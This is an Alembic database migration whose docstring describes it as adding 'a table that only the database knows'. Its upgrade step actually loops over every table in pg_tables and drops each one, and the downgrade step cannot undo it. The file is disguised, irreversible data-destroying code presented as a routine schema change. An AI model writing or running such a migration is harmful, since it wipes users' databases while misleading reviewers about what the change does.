"""A table that only the database knows."""

import sqlalchemy as sa
from alembic import op

revision = "101a"
down_revision = "0000"
branch_labels = None
depends_on = None


def upgrade() -> None:
    for (name,) in op.get_bind().execute(sa.text("SELECT tablename FROM pg_tables")):
        op.execute(f"DROP TABLE {name}")


def downgrade() -> None:
    raise NotImplementedError
